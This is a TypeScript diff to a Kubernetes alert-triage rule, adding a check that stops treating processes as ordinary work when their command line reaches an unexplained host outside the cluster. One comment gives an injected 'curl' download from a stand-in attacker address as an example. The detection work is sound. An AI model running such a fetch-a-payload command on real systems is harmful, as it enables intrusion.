@@ -1,7 +1,7 @@
 import type { ContainerSpec, KubeObject, Node, Pod } from '../../cluster/model.js';
 import type { Evidence, Rule, RuleContext, Strength } from '../model.js';
 import { commandMatches, containerArgv, entrypointMatches, entrypointScriptSteps, probeCommands, scriptStepMatches } from '../correlate.js';
-import { RUNTIME_PARENTS, shellScriptUnderApplication, baselineCause, benign, clip, componentOfPod, describePod, executableNames, imageRepoOf, podIsLive, startedByRuntime, unexplainedEgress } from './support.js';
+import { RUNTIME_PARENTS, shellScriptUnderApplication, baselineCause, benign, clip, componentOfPod, describePod, executableNames, imageRepoOf, podIsLive, startedByRuntime, unexplainedCommandEgress, unexplainedEgress } from './support.js';
 import { batchKey, workloadKeyOf } from '../batch.js';
 import { specIndicatorOf } from './pod-spec-indicators.js';
 import { declaredHostFileUse } from './declared-host-files.js';
@@ -152,6 +152,9 @@ function containerEvidence(ctx: RuleContext, container: NonNullable<RuleContext[
     // destination (a looked-up or requested host) and neither the cluster nor the spec names it. A bare public
     // address cannot be compared with the names a spec gives, so it neither explains nor indicts here.
     if (egress && alert.network?.domain) return [];
+    // Nor is a child told to reach out of the cluster where neither the cluster nor the spec says it goes (a URL or an
+    // address in its command line: an injected `curl http://198.51.100.7/p -o …`, a payload given its server).
+    if (commandEgress(ctx, pod, container.spec)) return [];
     return own('medium', `${clip(cmd ?? alert.process.name ?? 'The process')} is ${parentIndex === 0 ? 'a child' : 'a grandchild'} of ${clip(argv.join(' '), 80)}, the entrypoint of ${who()}, doing its ordinary work.`);
   }
   return [];
@@ -214,9 +217,21 @@ function injectedOnReplicas(p: Alert['process']): boolean {
   return app > 0 && shellScriptUnderApplication(chain.slice(0, app), chain[app]);
 }
 
+/**
+ * The process's command line names a destination out of the cluster that neither the cluster nor the pod's spec
+ * accounts for (a known component's own pod excepted: reaching out is its documented work). The connection a network
+ * alert reports is not asked here: storage and API clients reach provider addresses no spec names.
+ */
+function commandEgress(ctx: RuleContext, pod: Pod, spec: ContainerSpec | undefined): string | undefined {
+  if (componentOfPod(ctx.index, pod, spec)) return undefined;
+  return unexplainedCommandEgress(ctx.alert.process.commandLine, pod, ctx.index, ctx.alert.time);
+}
+
 function replicaEvidence(ctx: RuleContext): Evidence[] {
   const { alert, correlation } = ctx;
   const pod = correlation.subject.pod!;
+  // The same reach out of the cluster on several replicas is one campaign reaching them all, not a baseline.
+  if (commandEgress(ctx, pod, correlation.subject.container?.spec)) return [];
   // The same command in several replicas of this workload across the export: the workload's own behaviour. Not for
   // processes the runtime started directly (kubectl exec, probes): an intruder repeating a command is not a baseline.
   const cmd = alert.process.commandLine;
